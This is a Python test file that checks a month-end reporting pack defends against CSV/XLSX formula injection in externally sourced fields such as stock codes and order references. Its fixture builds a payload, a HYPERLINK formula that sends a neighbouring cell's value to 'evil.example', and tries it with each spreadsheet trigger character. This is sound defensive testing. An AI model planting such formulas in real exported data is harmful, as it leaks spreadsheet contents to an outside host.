"""No text from outside becomes a live formula in the month-end pack (issue 20, point 5).

A Khaos stock code ``=HYPERLINK("http://…"&B3,…)`` became a live formula in the XLSX,
and the CSVs wrote ``=``, ``+``, ``-``, ``@`` values verbatim. Stock codes, site names,
shipment, order and return references and the account name come from outside. Each
spreadsheet trigger is tried in each of those; numbers, negative ones included, must
still be numbers.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from acs_khaos_dagster.reports import PackFiles, render_month_end_pack
from acs_khaos_dagster_tests.test_month_end_pack import frames, inputs

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def _payload(trigger: str, where: str) -> str:
    return f'{trigger}HYPERLINK("http://evil.example/?"&B3,"{where}")'


@pytest.fixture(scope="module", params=TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def poisoned(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory):
    trigger = request.param
    tables = frames()
    tables["stock_reconciliation"].loc[1, "stock_code"] = _payload(trigger, "stock_code")
    tables["stock_reconciliation"].loc[1, "site_name"] = _payload(trigger, "site_name")
    tables["order_to_cash"].loc[0, "shipment_id"] = _payload(trigger, "shipment_id")
    tables["order_to_cash"].loc[0, "order_number"] = _payload(trigger, "order_number")
    tables["returns"].loc[0, "return_ref"] = _payload(trigger, "return_ref")
    tables["non_sellable_value"].loc[0, "site_name"] = _payload(trigger, "non_sellable")
    pack = render_month_end_pack(
        inputs(**tables, account_name=_payload(trigger, "account")),
        tmp_path_factory.mktemp("pack"),
    )
    payloads = {
        _payload(trigger, where)
        for where in (
            "stock_code",
            "site_name",
            "shipment_id",
            "order_number",
            "return_ref",
            "non_sellable",
            "account",
        )
    }
    return pack, payloads


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_csv_writes_a_text_cell_starting_with_a_trigger_behind_a_quote(
    poisoned: tuple[PackFiles, set[str]],
) -> None:
    pack, payloads = poisoned
    cells = [cell for path in pack.csvs.values() for cell in _csv_cells(path)]

    assert [cell for cell in cells if cell in payloads] == []
    assert sorted(c for c in cells if c.lstrip("'") in payloads and c.startswith("'")) == sorted(
        f"'{p}" for p in payloads
    )


def test_the_workbook_holds_no_formula_and_quotes_every_triggering_text_cell(
    poisoned: tuple[PackFiles, set[str]],
) -> None:
    pack, sent = poisoned
    # XML turns a bare carriage return into a line feed when the workbook is read back.
    payloads = {p.replace("\r", "\n") for p in sent}
    book = load_workbook(pack.workbook)
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in payloads:
                    found.add(cell.value)
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert found == payloads
    with zipfile.ZipFile(pack.workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_negative_numbers_stay_numbers_in_the_csv_and_the_workbook(
    poisoned: tuple[PackFiles, set[str]],
) -> None:
    pack, _ = poisoned
    with pack.csvs["stock_reconciliation"].open(encoding="utf-8", newline="") as handle:
        jeans = next(row for row in csv.DictReader(handle) if row["stock_id"] == "102")
    assert (jeans["difference"], jeans["value"]) == ("-2", "-30.00")

    sheet = load_workbook(pack.workbook)["Stock reconciliation"]
    # Row 1 is the pack's banner, row 2 the header.
    header = [cell.value for cell in sheet[2]]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == 102)
    difference = row[header.index("Difference (units)")]
    value = row[header.index("Difference value (£ at cost)")]
    assert (difference.value, difference.data_type) == (-2, "n")
    assert (value.value, value.data_type) == (-30.0, "n")
    assert not difference.quotePrefix and not value.quotePrefix


def test_ordinary_text_is_written_as_it_is() -> None:
    from acs_khaos_dagster.reports._tables import csv_value

    assert csv_value("DRESS-10", "text") == "DRESS-10"
    assert csv_value("O'Brien & Sons", "text") == "O'Brien & Sons"
    assert csv_value(-5, "int") == "-5"
    assert csv_value(-1.5, "money") == "-1.50"
